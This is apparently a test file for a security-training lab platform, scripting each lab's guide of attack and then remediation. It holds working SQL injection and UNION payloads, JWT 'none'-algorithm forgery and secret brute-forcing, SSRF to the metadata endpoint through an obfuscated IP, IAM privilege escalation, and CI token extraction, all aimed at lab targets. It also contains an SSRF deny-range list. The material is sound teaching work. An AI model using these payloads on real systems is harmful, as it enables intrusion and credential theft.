/* oxlint-disable vitest/no-standalone-expect -- they stand in the ways that `follow` makes tests of */
import { existsSync, readdirSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import { expect, test } from 'vitest'
import { atTerminal } from './lab-kit/testing/atTerminal.ts'
import type { Learner } from './lab-kit/testing/atTerminal.ts'

/** The labs whose ways are below. */
const followed: string[] = []

/**
 * Follows a guide to its end in the page's terminal: each block that runs is pressed, in order, and
 * every check ticks.
 */
const follow = (lab: string, way: (learner: Learner) => Promise<void>, options?: { isTimed: boolean }) => {
  followed.push(lab)
  test(`the guide of ${lab} works in the page’s terminal, block by block`, async () => {
    const learner = await atTerminal(lab, options)
    try {
      await way(learner)
      expect(learner.left()).toEqual([])
      await expect.poll(() => learner.target.openChecks()).toEqual([])
    } finally {
      await learner.stop()
    }
  })
}

test('each lab with a target has its way here, and a solution', () => {
  const folder = fileURLToPath(new URL('labs/', import.meta.url))
  const labs = readdirSync(folder).filter((lab) => existsSync(`${folder}${lab}/target`))
  expect(followed.toSorted()).toEqual(labs.toSorted())
  expect(labs.filter((lab) => !existsSync(`${folder}${lab}/solution.test.ts`))).toEqual([])
})

/** The last code that a text tells. */
const codeIn = (text: string): string =>
  [...text.matchAll(/mission-code\W+(\w+)/g)].at(-1)?.[1] ?? 'no code was printed'

follow('exposed-bucket', async ({ press, type }) => {
  expect(await press()).toMatch(/src="\/[\w-]+\/images/)
  expect(await press()).toMatch(/^[\w-]+\n$/)
  expect(await press()).toContain('<Key>')
  const rest = await type(
    'next=$(curl -s "$LAB_URL/$BUCKET/?list-type=2" | grep -o "<NextContinuationToken>[^<]*" | cut -d">" -f2); ' +
      'curl -s "$LAB_URL/$BUCKET/?list-type=2&continuation-token=$next" | grep -o "<Key>[^<]*"',
  )
  const key = /<Key>(website-backup.*\.sql)/.exec(rest)?.[1] ?? ''
  const found = await press(key)
  expect(await press(codeIn(found))).toContain('Recorded')
  expect(await press()).toContain('s3:ListBucket')
  await press('images/*')
  expect(await press()).toBe('204\n')
  expect(await press()).toContain('Mission complete')
})

const asJson = (value: unknown) => `'${JSON.stringify(value).replaceAll("'", String.raw`'\''`)}'`

follow('front-desk-injection', async ({ press, type }) => {
  expect(await press()).toContain('HTTP/1.1 303')
  expect(await type(`curl -s "$LAB_URL/login" --data-urlencode "username=O'Brien" -d password=x`)).toContain('SELECT')
  await type(`curl -s -c jar "$LAB_URL/login" --data-urlencode "username=x' OR role='manager' -- " -d password=x`)
  expect(await type('curl -s -b jar "$LAB_URL/me"')).toContain('"role": "manager"')
  expect(await type(`curl -s -b jar -G "$LAB_URL/guests" --data-urlencode 'name=Ada'`)).toContain('Ada Winter')
  expect(await press()).toContain('ORDER BY')
  const search = (words: string) => type(`curl -s -b jar -G "$LAB_URL/guests" --data-urlencode "name=${words}"`)
  expect(await search("x' UNION SELECT name, sql, 1 FROM sqlite_master -- ")).toContain('night_safe')
  const safe = await search("x' UNION SELECT owner, contents, box FROM night_safe -- ")
  expect(await type(`curl -s "$LAB_URL/mission" -d 'code=${codeIn(safe)}'`)).toContain('Recorded')
  expect(await press()).toContain('WHERE floor = ?')
  const put = (name: string, query: object) =>
    type(`curl -s -X PUT -H "x-owner-key: $OWNER_KEY" "$LAB_URL/owner/queries/${name}" -d ${asJson(query)}`)
  await put('login', {
    sql: 'SELECT id, name, role FROM staff WHERE username = ? AND password = ?',
    params: ['username', 'password'],
  })
  await put('guests', { sql: "SELECT name, room, nights FROM guests WHERE name LIKE '%' || ? || '%'", params: ['name'] })
})

follow('headers-that-hold', async ({ press, type }) => {
  const today = await press()
  expect(today).toContain('HTTP/1.1 200')
  expect(today).toContain('"grade": "F"')
  const easy = {
    'X-Content-Type-Options': 'nosniff',
    'Referrer-Policy': 'strict-origin-when-cross-origin',
    'Permissions-Policy': 'camera=(), microphone=(), geolocation=()',
    'Strict-Transport-Security': 'max-age=63072000; includeSubDomains',
  }
  await type(`echo ${asJson(easy)} > headers.json`)
  expect(await press()).toContain('nosniff')
  const fingerprint = (await press()).trim()
  expect(fingerprint).toMatch(/^[\w+/]{43}=$/)
  const policy = `default-src 'none'; script-src 'self' 'sha256-${fingerprint}'; style-src 'self'; img-src 'self'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'`
  await type(`echo ${asJson({ ...easy, 'Content-Security-Policy': policy })} > headers.json`)
  await type(
    'curl -s -X PUT "$LAB_URL/owner/headers" -H "x-owner-key: $OWNER_KEY" -H "content-type: application/json" -d @headers.json',
  )
  expect(await press()).toBe('true\n')
})

follow('jwt-forgery', async ({ press, type, target }) => {
  await press()
  const read = await press()
  expect(read).toContain('"role": "clerk"')
  const sub = /"sub": "([^"]+)"/.exec(read)?.[1] ?? ''
  const exp = /"exp": (\d+)/.exec(read)?.[1] ?? ''
  expect(await type('curl -si -H "Authorization: Bearer $TOKEN" "$LAB_URL/admin/ledger"')).toContain(' 403 ')
  await press()
  await press('nOnE', sub, 'admin', exp)
  const handIn = (path: string) =>
    type(
      `CODE=$(curl -s -H "Authorization: Bearer $FORGED" "$LAB_URL${path}" | jq -r '."mission-code"'); curl -s "$LAB_URL/mission" -d "code=$CODE"`,
    )
  expect(await handIn('/admin/ledger')).toContain('1 more to hand in')
  expect(await press()).toMatch(/^[\w-]{43}/)
  const guess =
    'for word in $(curl -s "$LAB_URL/wordlist.txt"); do if [ "$(sign "${TOKEN%.*}" "$word")" = "${TOKEN##*.}" ]; then SECRET=$word; break; fi; done; echo "it is $SECRET"'
  expect(await type(guess)).toMatch(/it is \w+/)
  await type(
    `HEAD=$(part '{"typ":"JWT","alg":"HS256"}'); BODY=$(part '{"sub":"${sub}","role":"admin","exp":${exp}}'); FORGED="$HEAD.$BODY.$(sign "$HEAD.$BODY" "$SECRET")"`,
  )
  expect(await handIn('/admin/secrets')).toContain('Recorded')
  const settings = { algorithms: ['HS256'], issuer: 'kestrel-ledger', audience: 'kestrel-api', maxAgeSeconds: 3600 }
  await type(
    `NEW=$(openssl rand -base64 32); echo ${asJson(settings)} | jq --arg s "$NEW" '.secret = $s' | curl -s -X PUT -H 'x-owner-key: ${target.credentials['ownerKey']}' "$LAB_URL/owner/verifier" -d @-`,
  )
})

follow('voucher-race', async ({ press, type }) => {
  await press()
  expect(await type('redeem; redeem')).toMatch(/^200 \d+\.\d+\n409 \d+\.\d+\n$/)
  await type('curl -s -X POST -H "Authorization: Bearer $TOKEN" "$LAB_URL/reset"')
  expect(Number(/(\d+) 200\n/.exec(await press())?.[1])).toBeGreaterThanOrEqual(5)
  const order =
    'CODE2=$(curl -s -H "Authorization: Bearer $TOKEN" "$LAB_URL/orders" -d item=lantern | jq -r .code); curl -s "$LAB_URL/mission" -d "code=$CODE2"'
  expect(await type(order)).toContain('Recorded')
  const sql = 'UPDATE vouchers SET redeemed_by = :account, redeemed_at = :now WHERE code = :code AND redeemed_by IS NULL'
  await type('curl -s -X POST -H "Authorization: Bearer $TOKEN" "$LAB_URL/reset"')
  await type(`echo ${asJson({ sql, transaction: true, fraudCheck: 'before' })} > claim.json`)
  await press()
  await type(
    `curl -s -X PUT "$LAB_URL/owner/constraint" -H "x-owner-key: $OWNER_KEY" -d ${asJson({ table: 'credits', unique: ['voucher'] })}`,
  )
  await type('curl -s "$LAB_URL/mission"')
})

follow('metadata-ssrf', async ({ press, type, target }) => {
  expect(await press()).toContain('Example Lab')
  const folder = 'http://2852039166/latest/meta-data/iam/security-credentials/'
  const found = JSON.parse(await type(`preview '${folder}pico-preview-role' | jq -r .body`)) as Record<string, string>
  const keys = await press(found['AccessKeyId'] ?? '', found['SecretAccessKey'] ?? '', found['Token'] ?? '')
  const payroll = /payroll\/\S+/.exec(keys)?.[0] ?? ''
  const file = await type(`curl -s -u "$AKID:$SECRET" -H "x-session-token: $TOKEN" "$LAB_URL/storage/${payroll}"`)
  const code = /mission-code,(\w+)/.exec(file)?.[1] ?? ''
  expect(await type(`curl -s "$LAB_URL/mission" -d 'code=${code}'`)).toContain('Recorded')
  const preview = {
    checkResolvedAddress: true,
    schemes: ['https'],
    denyRanges: '0.0.0.0/8 10.0.0.0/8 127.0.0.0/8 169.254.0.0/16 172.16.0.0/12 192.168.0.0/16 ::/128 ::1/128 fc00::/7 fe80::/10'.split(' '),
    followRedirects: false,
  }
  const put = (settings: object) =>
    type(`curl -s -X PUT -H 'x-owner-key: ${target.credentials['ownerKey']}' "$LAB_URL/owner/settings" -d ${asJson(settings)}`)
  await put({ preview, metadata: { httpTokens: 'required', hopLimit: 1 } })
})

follow('iam-escalation', async ({ press, type, target }) => {
  expect(await press()).toContain('user/ci-reader')
  const own = 'arn:aws:iam::111122223333:policy/ci-reader-policy'
  expect(await press(own, own)).toContain('ci-*')
  expect(await press('secretsmanager:GetSecretValue', '*', own)).toContain('"VersionId": "v2"')
  const secret = await type(`iam '{"Action": "GetSecretValue", "SecretId": "payroll-master"}'`)
  expect(await press(codeIn(secret))).toContain('Recorded')
  const { ownerAccessKey, ownerSecretKey } = target.credentials
  await type(`export ACCESS_KEY='${ownerAccessKey}' SECRET_KEY='${ownerSecretKey}'`)
  const call = (input: object) => type(`iam ${asJson(input)}`)
  await call({ Action: 'SetDefaultPolicyVersion', PolicyArn: own, VersionId: 'v1' })
  await call({ Action: 'DeletePolicyVersion', PolicyArn: own, VersionId: 'v2' })
  const policy = (name: string) => `arn:aws:iam::111122223333:policy/${name}`
  const statements = [
    { Effect: 'Allow', Action: ['iam:Get*', 'iam:List*'], Resource: [policy('*'), 'arn:aws:iam::111122223333:user/*'] },
    { Effect: 'Allow', Action: 'iam:CreatePolicyVersion', Resource: policy('ci-app-*') },
  ]
  const PolicyDocument = JSON.stringify({ Version: '2012-10-17', Statement: statements })
  await call({ Action: 'CreatePolicyVersion', PolicyArn: own, PolicyDocument, SetAsDefault: true })
  await call({ Action: 'DeletePolicyVersion', PolicyArn: own, VersionId: 'v1' })
  await call({ Action: 'CreatePolicy', PolicyName: 'boundary-of-ci', PolicyDocument })
  await call({ Action: 'PutUserPermissionsBoundary', UserName: 'ci-reader', PermissionsBoundary: policy('boundary-of-ci') })
})

follow('unsigned-image', async ({ press, type }) => {
  const gate = await press()
  expect(gate).toContain('"allowed": true')
  expect(gate).toContain('"allowed": false')
  expect(await press()).toContain('registry-heron.example/tools/canary:1\n')
  expect(await press('registry-heron.example/tools/canary:1')).toContain('mission-code: ')
  expect(await press('initContainers')).toContain('mission-code: ')
  expect(await press()).toMatch(/docker-content-digest: sha256:[0-9a-f]{64}/)
  expect(await press()).toBe('')
  expect(await press('canary.json', '1.4')).toContain('"phase":"Running"')
  expect((await press()).match(/Recorded/g)).toHaveLength(3)
  expect(await press()).toMatch(/^heron-release: .*pipeline/)
  const putBack = 'curl -s -X PUT "$LAB_URL/policy" -H "x-owner-key: $OWNER_KEY" -d @first-policy.json'
  expect(await type(putBack)).toContain('"match": "^registry.heron.example/"')
  const match = String.raw`(shop/web|shop/migrate|base)(:[\\w.-]+)?(@sha256:[a-f0-9]{64})?`
  const lists = '"initContainers", "ephemeralContainers"'
  expect(await press(match, lists, 'resolve', 'true', 'heron-release', 'deny')).toContain('"onError"')
  expect(await press()).toMatch(/"allowed": false[^]*"allowed": true/)
  expect(await press()).toContain('Mission complete')
}, { isTimed: true })

follow('rollout-without-a-gap', async ({ press }) => {
  expect(await press()).toContain('"budget"')
  expect(await press()).toContain('"instances"')
  await press()
  expect(await press()).toContain('nothing is under way')
  expect(await press('.inflight == 0', '.state == "ready"')).toBe('')
  const release = await press('expand', '.schema.backfill == 100', 'contract')
  expect(release).toMatch(/after instance 4: \d failed/)
  expect(await press()).toContain('Mission complete')
}, { isTimed: true })

follow('three-am-page', async ({ press }) => {
  expect(await press()).toContain('http_request_duration_seconds_count')
  expect(await press()).toMatch(/^\d+\n$/)
  const ids = await press()
  expect(await press(ids.split('\n')[0] ?? '')).toContain('pool.acquire orders-db')
  expect(await press()).toContain('holder="refunds"')
  const past = await press('refunds')
  const change = /"id": "([^"]+)"[^}]*refunds\.mode/.exec(past)?.[1] ?? 'no change was printed'
  const startedAt = /^(\d\d:\d\d).*WARN/im.exec(past)?.[1] ?? 'no warning was printed'
  const transaction = /transaction (tx-\w+)/.exec(past)?.[1] ?? 'no transaction was printed'
  expect(await press('refunds.mode', 'batch')).toContain('batch')
  await press('refunds')
  const [all = 0, fast = 0] = (await press()).trim().split('\n').map(Number)
  expect(fast / all).toBeGreaterThan(0.99)
  await press('1000', '60000', '12', '5', '3', 'exponential-jitter')
  const handedIn = await press(change, 'refunds', 'database connections', startedAt, transaction)
  expect(handedIn).toMatch(/Recorded[^]*Mission complete/)
}, { isTimed: true })

follow('truthful-probes', async ({ press }) => {
  expect(await press()).toMatch(/ok\nok\n$/)
  expect(await press()).toContain('"liveness"')
  expect(await press()).toContain('shop: 503')
  const probes = ['/live', '10', '/live', '2', '1', '3', '/ready', '1', '2']
  expect(await press(...probes)).toContain('"failureThreshold": 10')
  expect(await press()).toMatch(/shop: 503[^]*shop: 200/)
  expect(await press()).toMatch(/shop: 504[^]*ready, gets traffic/)
  expect(await press()).toContain('Mission complete')
}, { isTimed: true })

follow('leaky-pipeline', async ({ press, type, target }) => {
  expect(await press()).toMatch(/\tpush\t/)
  const hits = (await press()).split('\n').flatMap((line) => {
    const [, run = '', hit = ''] = /^(\d+): .*?([A-Za-z0-9+/]{20,}={0,2})/.exec(line) ?? []
    const [, token] = /^ci:([0-9a-f]{40})$/.exec(Buffer.from(hit, 'base64').toString()) ?? []
    return token === undefined ? [] : [{ run, token }]
  })
  expect(await press(hits[0]?.token ?? 'no token was printed')).toContain('publish')
  const notes = await type(
    `curl -s -H "Authorization: Bearer $DEPLOY_TOKEN" "$LAB_URL$(curl -s -H "Authorization: Bearer $DEPLOY_TOKEN" "$LAB_URL/registry/packages" | jq -r '.[] | select(.visibility == "private") | .notes')"`,
  )
  expect(await type(`curl -s "$LAB_URL/mission" -d 'code=${codeIn(notes)}'`)).toContain('Recorded')
  await type(`own() { curl -s -H 'x-owner-key: ${target.credentials['ownerKey']}' -X "$1" "$LAB_URL/$2" "\${@:3}"; }`)
  await type('own POST secrets/DEPLOY_TOKEN/rotate')
  await type(`for id in ${[...new Set(hits.map(({ run }) => run))].join(' ')}; do own DELETE "runs/$id/log"; done`)
  await type(
    `strange=$(own GET registry/audit | jq -r '.[0].address as $a | [.[] | select(.address != $a)][0].version'); own DELETE "registry/packages/shop/$strange"`,
  )
  const pipeline = {
    on: ['push', 'pull_request_from_fork'],
    steps: [
      { name: 'install', run: 'npm ci' },
      { name: 'test', run: 'npm test' },
      { name: 'publish', run: 'npm publish', when: { event: 'push', branch: 'main' }, identity: 'oidc' },
    ],
  }
  await type(`own PUT projects/shop/pipeline -d ${asJson(pipeline)}`)
  await type(`own POST projects/shop/runs -d ${asJson({ event: 'push', branch: 'main' })}`)
})
